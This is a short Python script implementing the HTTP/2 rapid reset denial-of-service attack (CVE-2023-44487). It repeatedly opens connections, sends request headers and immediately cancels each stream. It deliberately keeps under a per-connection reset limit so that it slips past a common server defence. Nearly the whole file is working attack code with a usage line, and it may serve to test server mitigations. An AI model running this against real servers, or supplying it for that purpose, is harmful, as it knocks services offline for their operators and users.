#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) from a client that reconnects: on each new connection,
PER_CONNECTION streams are opened (HEADERS) and at once cancelled (RST_STREAM), staying under a
per-connection reset guard; then the connection is dropped and another one opened, for SECONDS.

Usage: rapid_reset.py HOST PORT PATH SECONDS PER_CONNECTION
Prints "connections N streams M". Uses Debian's python3-h2 (run it with /usr/bin/python3).
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors


def one_connection(host, port, path, streams):
    sock = socket.create_connection((host, port), timeout=2)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    headers = [(":method", "GET"), (":path", path), (":scheme", "http"),
               (":authority", f"{host}:{port}")]
    for _ in range(streams):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, headers, end_stream=True)
        conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
    try:
        sock.sendall(conn.data_to_send())
        # Give the server a moment to start the streams before the connection goes.
        sock.settimeout(0.02)
        sock.recv(65536)
    except OSError:
        pass
    sock.close()


def main():
    host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    seconds, per_connection = float(sys.argv[4]), int(sys.argv[5])
    deadline = time.monotonic() + seconds
    connections = 0
    while time.monotonic() < deadline:
        try:
            one_connection(host, port, path, per_connection)
        except OSError:
            pass
        connections += 1
    print(f"connections {connections} streams {connections * per_connection}")


if __name__ == "__main__":
    main()
